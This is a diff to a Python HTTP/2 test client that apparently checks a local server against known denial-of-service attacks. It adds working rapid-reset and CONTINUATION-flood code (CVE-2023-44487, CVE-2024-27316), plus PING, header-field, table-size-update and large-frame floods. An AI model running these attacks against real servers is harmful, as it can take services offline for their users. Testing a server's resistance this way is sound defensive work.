@@ -23,6 +23,17 @@ Usage: h2_hostile.py PORT burst ROUNDS [UPDATE]
   beginning with a table size update to UPDATE when given (as an
   encoder does that takes up a larger table the server allowed). Reads
   until the three streams end; prints "answered N" (N streams ended).
+
+Usage: h2_hostile.py PORT flood STREAMS
+  One connection per attack, one after the other: STREAMS GETs of
+  /rst/N each reset (RST_STREAM(CANCEL)) right after its HEADERS, all in
+  one write (rapid reset); 5,000 PINGs then a GET /ping; 100 GETs of
+  /resize/N whose blocks begin with table size updates to 0 and 4096; a
+  GET /fields with 2,000 more fields; HEADERS of /cont followed by 2,000
+  CONTINUATION frames of 4 KiB without END_HEADERS (CONTINUATION flood)
+  until the server closes; a POST /big of four 16,384-byte DATA frames.
+  Prints "ATTACK ENDED CLOSED" per attack: the streams that ended, and
+  whether the server closed the connection.
 """
 import socket
 import struct
@@ -144,10 +155,86 @@ def burst(port, rounds, update=None):
     print("answered", total, flush=True)
 
 
+def drain(s, want=None):
+    """Reads until the server closes (or 5 s of silence, or `want` streams
+    ended); returns the streams ended and whether it closed."""
+    s.settimeout(5)
+    got, buf = 0, b""
+    try:
+        while want is None or got < want:
+            data = s.recv(65536)
+            if not data:
+                return got, True
+            n, buf = ended(buf + data)
+            got += n
+    except (socket.timeout, ConnectionResetError):
+        pass
+    return got, False
+
+
+def flood(port, streams):
+    """One connection per attack, each ending with a plain GET when the
+    server still listens; prints one line per attack."""
+    head = b"\x82\x86" + literal(1, "localhost")
+    hello = PREFACE + frame(SETTINGS, 0, 0, b"")
+
+    # rapid reset (CVE-2023-44487): HEADERS then RST_STREAM(CANCEL), many
+    s = socket.create_connection(("127.0.0.1", port))
+    out = hello + b"".join(frame(HEADERS, END_STREAM | END_HEADERS, 2 * i + 1, head + literal(4, "/rst/%d" % i)) +
+                           frame(0x3, 0, 2 * i + 1, struct.pack(">I", 8)) for i in range(streams))
+    s.sendall(out)
+    print("rst", *drain(s, streams), flush=True)
+    s.close()
+
+    # PING flood, then one GET
+    s = socket.create_connection(("127.0.0.1", port))
+    s.sendall(hello + frame(0x6, 0, 0, b"12345678") * 5000 + frame(HEADERS, END_STREAM | END_HEADERS, 1, head + literal(4, "/ping")))
+    print("ping", *drain(s, 1), flush=True)
+    s.close()
+
+    # dynamic table size updates (0, then 4096) before every block
+    s = socket.create_connection(("127.0.0.1", port))
+    s.sendall(hello + b"".join(frame(HEADERS, END_STREAM | END_HEADERS, 2 * i + 1,
+                                     b"\x20\x3f\xe1\x1f" + head + b"\x44" + bytes([len("/resize/%d" % i)]) + b"/resize/%d" % i)
+                               for i in range(100)))
+    print("resize", *drain(s, 100), flush=True)
+    s.close()
+
+    # 2,000 fields in one block (accept-encoding from the static table)
+    s = socket.create_connection(("127.0.0.1", port))
+    s.sendall(hello + frame(HEADERS, END_STREAM | END_HEADERS, 1, head + literal(4, "/fields") + b"\x90" * 2000))
+    print("fields", *drain(s, 1), flush=True)
+    s.close()
+
+    # CONTINUATION flood (CVE-2024-27316): a block that never ends
+    s = socket.create_connection(("127.0.0.1", port))
+    s.sendall(hello + frame(HEADERS, 0, 1, head + literal(4, "/cont")))
+    # 40 fields "x-pad: xxx..." (literal names, not indexed)
+    pad = (b"\x00\x05x-pad\x64" + b"x" * 100) * 40
+    closed = False
+    for _ in range(2000):
+        try:
+            s.sendall(frame(0x9, 0, 1, pad))
+        except (BrokenPipeError, ConnectionResetError):
+            closed = True
+            break
+    print("continuation", *drain(s, None), flush=True)
+    s.close()
+
+    # frames of the largest default size (16,384) on a stream: a POST's body
+    s = socket.create_connection(("127.0.0.1", port))
+    s.sendall(hello + frame(HEADERS, END_HEADERS, 1, b"\x83\x86" + literal(1, "localhost") + literal(4, "/big")) +
+              frame(0x0, 0, 1, b"z" * 16384) * 3 + frame(0x0, END_STREAM, 1, b"z" * 16384))
+    print("big", *drain(s, 1), flush=True)
+    s.close()
+
+
 def main():
     port, scenario = int(sys.argv[1]), sys.argv[2]
     if scenario == "hold":
         hold(port, int(sys.argv[3]), int(sys.argv[4]))
+    elif scenario == "flood":
+        flood(port, int(sys.argv[3]))
     elif scenario == "burst":
         burst(port, int(sys.argv[3]), int(sys.argv[4]) if len(sys.argv) > 4 else None)
     else:
